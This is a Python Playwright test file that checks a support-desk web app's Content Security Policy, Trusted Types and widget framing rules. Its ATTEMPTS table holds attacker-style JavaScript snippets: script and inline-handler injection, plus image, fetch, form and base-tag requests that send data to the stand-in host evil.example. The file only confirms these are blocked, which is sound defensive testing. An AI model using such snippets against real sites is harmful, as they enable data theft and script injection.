"""What the browser itself holds: no foreign code, no foreign requests or frames.

`open_page` fails a test for every complaint of the console and every request elsewhere.
"""

from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from accounts.models import Customer, Tenant, User
from accounts.scope import identity_scope, tenant_scope
from chat.identity import sign_customer
from chat.models import HttpTool
from tests.browser.conftest import OpenPage
from tests.browser.people import PASSWORD, Staff, Visitor
from tests.conftest import make_conversation
from tests.stack import Stack

pytestmark = [
    pytest.mark.browser,
    pytest.mark.parametrize("stack", [("web",)], indirect=True),
]

NOTE_VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
    event => window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
"""
# What an attacker would have a page do, and the directive that stops it.
ATTEMPTS = {
    "script-src-elem": """() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = true";
        document.body.append(script);
    }""",
    "script-src-attr": """() => {
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.ran = true");
        document.body.append(button);
        button.click();
    }""",
    "img-src": """() => {
        const image = document.createElement("img");
        image.src = "https://evil.example/?stolen";
        document.body.append(image);
    }""",
    "connect-src": """() => fetch("https://evil.example/?stolen").catch(() => 0)""",
    "style-src-attr": """() => document.body.setAttribute("style", "display: none")""",
    "form-action": """() => {
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
    }""",
    "base-uri": """() => {
        const base = document.createElement("base");
        base.href = "https://evil.example/";
        document.head.append(base);
    }""",
    "require-trusted-types-for": """() => {
        try { document.createElement("script").src = "/static/js/keys.js"; }
        catch (error) { return error.name; }
    }""",
}


@pytest.fixture
def cast(desk: Tenant, ada: User, carla: User, elena: Customer) -> dict[str, Any]:
    """An admin, a compliance officer, a conversation and a tool."""
    with identity_scope():
        for user in (ada, carla):
            user.set_password(PASSWORD)
            user.save()
    with tenant_scope(desk.id):
        tool = HttpTool.objects.create(
            tenant=desk, name="orders", parameters={}, url="https://shop.example/"
        )
        Tenant.objects.update(widget_sites=["https://linden.example"])
    return {
        "conversation": make_conversation(elena, "Hello").id,
        "customer": elena.id,
        "tool": tool.pk,
        "token": sign_customer(desk, elena.external_id, elena.name),
    }


def watched(page: Page) -> Page:
    page.add_init_script(NOTE_VIOLATIONS)
    return page


def visit(page: Page, urls: list[str]) -> None:
    for url in urls:
        response = page.goto(url)
        assert response is not None
        assert response.status == 200, url
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.violations") == [], url


def test_no_page_breaks_the_policy_or_asks_another_origin(
    cast: dict[str, Any], open_page: OpenPage
) -> None:
    admin = Staff(watched(open_page()), "ada@linden.example")
    visit(
        admin.page,
        [
            "/inbox/",
            f"/inbox/{cast['conversation']}/",
            "/customers/",
            f"/customers/{cast['customer']}/",
            "/settings/desk/",
        ],
    )
    officer = Staff(watched(open_page()), "carla@linden.example")
    visit(officer.page, ["/customers/", "/privacy/"])
    visitor = Visitor(watched(open_page()), "linden", cast["token"])
    visitor.say("Hello again")
    assert visitor.page.evaluate("window.violations") == []


def test_what_an_attacker_would_have_a_page_do_is_stopped(
    cast: dict[str, Any], browser: Browser, stack: Stack
) -> None:
    for url in ("/accounts/login/", "/widget/linden/"):
        for directive, attempt in ATTEMPTS.items():
            page = watched(browser.new_page(base_url=stack.base_url))
            page.goto(url)
            page.evaluate(attempt)
            page.wait_for_function("window.violations.length > 0")
            found = page.evaluate("window.violations.join()")
            assert directive in found, f"{url} {directive}: {found}"
            assert page.evaluate("window.ran") is None
            assert page.url.startswith(stack.base_url)
            page.close()


def test_the_widget_sets_no_html_at_all(
    cast: dict[str, Any], browser: Browser, stack: Stack
) -> None:
    page = browser.new_page(base_url=stack.base_url)
    page.goto("/widget/linden/")
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "trustedTypes.createPolicy('default', {})",
        "trustedTypes.createPolicy('mine', {})",
    ):
        refused = f"() => {{ try {{ {attempt} }} catch (e) {{ return e.name }} }}"
        assert page.evaluate(refused) == "TypeError", attempt


def test_the_widget_shows_on_the_desks_own_site_and_on_no_other(
    cast: dict[str, Any], browser: Browser, stack: Stack
) -> None:
    context = browser.new_context()
    page = context.new_page()
    html = f'<iframe src="{stack.base_url}/widget/linden/"></iframe>'
    for site in (
        "https://evil.example/",
        "https://linden.example.evil.example/",
        "https://sub.linden.example/",
        "https://linden.example:8443/",
        "https://linden.example/",
    ):
        page.route(
            f"{site}**",
            lambda route: route.fulfill(body=html, content_type="text/html"),
        )
        page.goto(site)
        hello = page.frame_locator("iframe").locator("#hello")
        if site == "https://linden.example/":
            expect(hello).to_be_visible()
        else:
            page.wait_for_load_state("networkidle")
            expect(hello).to_have_count(0)
            assert page.frames[1].url.startswith("chrome-error:"), site
    context.close()
